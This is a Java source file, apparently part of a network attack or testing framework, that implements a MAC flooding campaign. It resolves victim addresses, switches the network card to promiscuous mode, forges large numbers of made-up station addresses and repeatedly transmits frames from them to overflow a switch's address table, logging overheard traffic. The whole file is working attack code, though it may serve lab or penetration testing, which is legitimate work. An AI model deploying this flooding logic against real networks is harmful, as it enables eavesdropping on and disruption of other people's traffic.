package cofferdam.attacks.network;

import cofferdam.attacks.Attack;
import cofferdam.monitor.address.Ipv4Address;
import cofferdam.monitor.address.MacAddress;

import java.time.Duration;

/** One run of {@link MacFlooding}: passes over the same made-up stations until it is stopped. */
final class FloodingCampaign implements Attack.Campaign {

    private final Foothold foothold;
    private final AddressResolution victims;
    private final StationForge forge;
    private final Duration interval;
    private final Duration refresh;
    private final Overheard overheard;
    // One long a station: a million of them as objects would take several times the memory.
    private final long[] stations;
    private boolean ready;

    FloodingCampaign(
            Foothold foothold,
            StationForge forge,
            int frames,
            Duration interval,
            Duration refresh) {
        this.foothold = foothold;
        this.forge = forge;
        this.interval = interval;
        this.refresh = refresh;
        victims = new AddressResolution(foothold);
        overheard = new Overheard(foothold.nic());
        stations = new long[frames];
    }

    /** Asks the victims first, so that no made-up station has one's address. */
    void begin() {
        foothold.listen(frame -> {
            victims.heard(frame);
            overheard.count(frame);
        });
        foothold.becomePromiscuous();
        victims.begin(this::makeUpStations);
    }

    @Override
    public boolean ready() {
        return ready;
    }

    @Override
    public void stop() {
        if (stopped()) {
            return;
        }
        foothold.report(overheard.toString());
        foothold.close();
    }

    @Override
    public boolean stopped() {
        return foothold.closed();
    }

    private void makeUpStations() {
        forge.spare(foothold.hardware());
        for (Ipv4Address victim : foothold.victims()) {
            victims.of(victim).ifPresent(forge::spare);
        }
        for (int i = 0; i < stations.length; i++) {
            stations[i] = forge.station().value();
        }
        pass();
    }

    private void pass() {
        foothold.agenda().repeat(interval, stations.length, this::flood, this::passed);
    }

    private void flood(int index) {
        foothold.transmitter().send(forge.frame(new MacAddress(stations[index])));
    }

    private void passed() {
        if (!ready) {
            foothold.report("sent frames of " + stations.length + " made-up stations");
        }
        ready = true;
        if (!foothold.transmitter().exhausted()) {
            foothold.agenda().after(refresh, this::pass);
        }
    }
}
